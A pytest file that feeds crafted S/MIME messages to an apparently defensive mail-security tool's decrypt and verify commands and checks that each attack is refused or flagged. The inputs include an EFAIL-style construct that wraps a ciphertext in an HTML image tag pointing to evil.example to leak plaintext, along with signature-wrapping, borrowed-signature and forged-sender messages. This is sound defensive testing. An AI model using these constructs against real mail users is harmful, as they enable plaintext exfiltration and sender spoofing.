"""What attackers do with S/MIME, through the real entry point: exfiltration, swapped wrappers, borrowed signatures."""

from __future__ import annotations

from base64 import b64encode
from pathlib import Path

import pytest

from tests.content.smime.forge import (
    ALICE,
    BOB,
    HEADER,
    MALLORY,
    ROOT,
    TEXT,
    Signing,
    compressed,
    detached,
    mixed,
    multipart,
    opaque,
    p7m,
    signed_data,
)
from tests.content.smime.seal import Sealing, mail, sealed

AT = ("--at", "2027-01-15T08:00:00Z")
ENVELOPED = b"application/pkcs7-mime; smime-type=enveloped-data"
FORGED = b"From: Mallory <mallory@evil.example>\r\n" + HEADER.partition(b"\r\n")[2]
HTML = b"Content-Type: text/html\r\n\r\n"
OPEN_IMAGE, CLOSE_IMAGE = HTML + b'<img src="http://evil.example/', HTML + b'">'
SIGNED = multipart(TEXT, signed_data(TEXT, Signing()))
INSIDE = p7m(signed_data(TEXT, Signing(), detached=False))
BY_MALLORY = multipart(TEXT, signed_data(TEXT, Signing(MALLORY)))
GCM, CBC = Sealing(), Sealing(gcm=False)


def wrapped(entity: bytes, how: Sealing = GCM, kind: bytes = ENVELOPED) -> bytes:
    return p7m(sealed(entity, how), kind)


def outer(entity: bytes, *signings: Signing) -> bytes:
    entity = entity.replace(b"boundary=sm\r\n", b"boundary=in\r\n").replace(b"--sm", b"--in")
    return multipart(entity, signed_data(entity, *(signings or (Signing(),))))


def long_type(data: bytes) -> bytes:
    """An encrypted structure whose type is written with a long length, and nothing else of it with a length at all."""
    start = data.index(b"\x06")
    end = start + 2 + data[start + 1]
    return b"\x30\x80\x06\x81" + data[start + 1 : end] + data[end:] + b"\0\0"


@pytest.fixture
def bob(tmp_path: Path) -> Path:
    path = tmp_path / "bob.pem"
    path.write_bytes(BOB.pem + BOB.key_pem)
    return path


@pytest.fixture
def roots(tmp_path: Path) -> Path:
    path = tmp_path / "roots.pem"
    path.write_bytes(ROOT.pem)
    return path


BESIDE = "content-ciphertext-beside-plaintext"
HELD = "smime-not-authenticated"
DECRYPTED: dict[str, tuple[bytes, int, bool, str]] = {
    "HTML around a ciphertext": (HEADER + mixed(OPEN_IMAGE, wrapped(TEXT), CLOSE_IMAGE), 1, True, "content-html-around"),
    "HTML around CBC": (HEADER + mixed(OPEN_IMAGE, wrapped(TEXT, CBC), CLOSE_IMAGE), 1, False, HELD),
    "HTML around CBC that is signed within": (HEADER + mixed(OPEN_IMAGE, wrapped(SIGNED, CBC), CLOSE_IMAGE), 1, False, HELD),
    "CBC with its own signature beside": (HEADER + outer(wrapped(TEXT, CBC)), 1, False, HELD),
    "CBC signed around by another": (HEADER + outer(wrapped(TEXT, CBC), Signing(MALLORY)), 1, False, HELD),
    "CBC with a footer within": (mail(sealed(mixed(SIGNED, HTML + b"x"), CBC)), 1, False, HELD),
    "CBC within GCM": (mail(sealed(wrapped(TEXT, CBC), GCM)), 1, False, HELD),
    "CBC within a good signature within GCM": (mail(sealed(outer(wrapped(TEXT, CBC)), GCM)), 1, False, HELD),
    "CBC compressed within": (mail(sealed(p7m(compressed(TEXT)), CBC)), 1, False, HELD),
    "CBC signed within by another": (mail(sealed(BY_MALLORY, CBC)), 1, False, HELD),
    "CBC signed within, and another From": (FORGED + wrapped(SIGNED, CBC), 1, False, HELD),
    "one good signature and a bad one within CBC": (
        mail(sealed(multipart(TEXT, signed_data(TEXT, Signing(), Signing(MALLORY, flip=True))), CBC)),
        1,
        False,
        HELD,
    ),
    "a ciphertext in an enclosed message": (
        HEADER + mixed(b"\r\nSee below.\r\n", b"Content-Type: message/rfc822\r\n\r\n" + mail(sealed(TEXT, GCM))),
        0,
        True,
        BESIDE,
    ),
    "a ciphertext called certificates": (
        mail(sealed(TEXT, GCM), b"application/pkcs7-mime; smime-type=certs-only"),
        0,
        True,
        "",
    ),
    "a ciphertext called a signature": (
        mail(sealed(TEXT, GCM), b"application/x-pkcs7-mime; smime-type=signed-data"),
        0,
        True,
        "",
    ),
    "a ciphertext called a file": (mail(sealed(TEXT, GCM), b"application/octet-stream"), 0, True, ""),
    "a ciphertext behind white space": (
        HEADER
        + b"Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + b"\r\n" * 2000
        + b64encode(sealed(TEXT, GCM)),
        0,
        True,
        "",
    ),
    "a ciphertext with its type at length": (mail(long_type(sealed(TEXT, GCM))), 0, True, ""),
    "a bad signature around": (
        HEADER + outer(wrapped(SIGNED)).replace(b"smime.p7m", b"SMIME.p7m"),
        1,
        True,
        "smime-signature-bad",
    ),
    "a good signature of another around": (HEADER + outer(wrapped(SIGNED), Signing(MALLORY)), 0, True, "of alice@bank.example"),
    "header fields within": (mail(sealed(b"From: ceo@bank.example\r\nSubject: Other\r\n" + TEXT, GCM)), 0, True, ""),
}


@pytest.mark.parametrize("case", DECRYPTED)
def test_what_is_decrypted(case: str, roots: Path, bob: Path, mailsec) -> None:
    file, code, given, rule = DECRYPTED[case]
    ended = mailsec("decrypt", *AT, "--ring", roots.parent / "ring", "--ca", roots, "--key", bob, "-", stdin=file)
    assert (ended.code, "pay 100" in ended.stdout) == (code, given), ended.stderr
    assert rule in ended.stderr
    assert "evil.example/" not in ended.stdout
    assert given or not ended.stdout


VERIFIED: dict[str, tuple[bytes, int, str]] = {
    "another's signature around the author's": (HEADER + outer(SIGNED, Signing(MALLORY)), 1, "content-signer-not-author"),
    "another's signature around, and From of the other": (FORGED + outer(SIGNED, Signing(MALLORY)), 0, ""),
    "the author's signature around another's": (HEADER + outer(BY_MALLORY), 0, ""),
    "the author's signature, with another From": (FORGED + SIGNED, 1, "content-signer-not-author"),
    "a bad one of two signatures": (detached(TEXT, Signing(), Signing(MALLORY, flip=True)), 1, "smime-signature-bad"),
    "two good signatures, one of another": (detached(TEXT, Signing(MALLORY), Signing()), 0, ""),
    "opaque, as an attachment": (HEADER + mixed(HTML + b"Pay 900", INSIDE), 1, "content-unsigned-parts"),
    "opaque, in an enclosed message": (
        HEADER + mixed(HTML + b"Pay 900", b"Content-Type: message/rfc822\r\n\r\n" + opaque()),
        1,
        "content-signed-attachment",
    ),
    "the whole of it an enclosed message": (
        HEADER + b"Content-Type: message/rfc822\r\n\r\n" + detached(),
        1,
        "content-signed-attachment",
    ),
    "hidden below HTML": (HEADER + mixed(HTML + b"<style>*{display:none}</style>Pay 900", SIGNED), 1, "content-html-around"),
    "two types": (HEADER + b"Content-Type: text/html\r\n" + SIGNED, 1, ""),
    "a third part in the signature": (
        HEADER + SIGNED.replace(b"--sm--", b"--sm\r\n" + HTML + b"Pay 900\r\n--sm--"),
        1,
        "content-unsigned-parts",
    ),
    "a text behind the signature, in a part that is shown": (
        HEADER
        + b'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; boundary=sm\r\n\r\n--sm\r\n'
        + TEXT
        + b"\r\n--sm\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + b64encode(signed_data(TEXT, Signing()) + b"<h1>Pay 900</h1>")
        + b"\r\n--sm--\r\n",
        1,
        "content-unsigned-parts",
    ),
    "the signature first": (
        HEADER
        + b'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; boundary=sm\r\n\r\n--sm\r\n'
        + p7m(signed_data(TEXT, Signing()), b"application/pkcs7-signature", b"smime.p7s")
        + b"\r\n--sm\r\n"
        + TEXT
        + b"\r\n--sm--\r\n",
        1,
        "",
    ),
    "called OpenPGP": (
        HEADER + SIGNED.replace(b'protocol="application/pkcs7-signature"', b'protocol="application/pgp-signature"'),
        1,
        "",
    ),
    "the certificate alone": (detached(TEXT, Signing(MALLORY, flip=True), certificates=[ALICE]), 7, "smime-signer-unknown"),
}


@pytest.mark.parametrize("case", VERIFIED)
def test_what_is_verified(case: str, roots: Path, mailsec) -> None:
    file, code, rule = VERIFIED[case]
    ring = roots.parent / "ring"
    command = ("verify", *AT, "--offline", "--require", "content", "--ring", ring, "--ca", roots, "--format", "plain")
    ended = mailsec(*command, "-", stdin=file)
    assert ended.code == code, ended.stdout
    assert rule in ended.stdout
